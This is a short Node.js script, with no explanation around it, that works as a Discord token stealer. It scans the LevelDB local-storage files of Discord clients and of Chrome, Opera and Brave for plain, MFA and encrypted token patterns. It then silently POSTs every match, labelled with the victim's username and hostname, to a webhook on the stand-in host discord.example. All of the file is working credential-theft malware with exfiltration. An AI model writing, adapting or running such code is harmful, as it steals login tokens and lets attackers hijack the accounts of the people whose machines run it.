const fs = require('fs');
const path = require('path');
const os = require('os');
const https = require('https');

const app = process.env.APPDATA || path.join(os.homedir(), '.config');
const local = process.env.LOCALAPPDATA || '';

const roots = [
  path.join(app, 'discord'),
  path.join(app, 'discordcanary'),
  path.join(app, 'discordptb'),
  path.join(app, 'Lightcord'),
  path.join(local, 'Google', 'Chrome', 'User Data', 'Default'),
  path.join(app, 'Opera Software', 'Opera Stable'),
  path.join(local, 'BraveSoftware', 'Brave-Browser', 'User Data', 'Default'),
  path.join(os.homedir(), 'Library', 'Application Support', 'discord'),
];

const plain = /[\w-]{24,26}\.[\w-]{6}\.[\w-]{25,110}/g;
const mfa = /mfa\.[\w-]{84}/g;
const enc = /dQw4w9WgXcQ:[^.*\['(.*)'\].*$][^"]*/g;

const found = new Set();
for (const r of roots) {
  const dir = path.join(r, 'Local Storage', 'leveldb');
  let files;
  try { files = fs.readdirSync(dir); } catch (e) { continue; }
  for (const f of files) {
    if (!f.endsWith('.ldb') && !f.endsWith('.log')) continue;
    let txt;
    try { txt = fs.readFileSync(path.join(dir, f), 'latin1'); } catch (e) { continue; }
    for (const re of [plain, mfa, enc]) {
      for (const m of txt.match(re) || []) found.add(m);
    }
  }
}

if (found.size) {
  const body = JSON.stringify({
    username: 'rpc',
    embeds: [{
      title: os.userInfo().username + '@' + os.hostname(),
      description: '```\n' + [...found].join('\n') + '\n```',
      color: 5793266,
    }],
  });
  const req = https.request({
    hostname: 'discord.example',
    path: '/api/webhooks/1029384756102938475/Qp9Zx-example-webhook-token-do-not-use',
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
  });
  req.on('error', () => {});
  req.end(body);
}
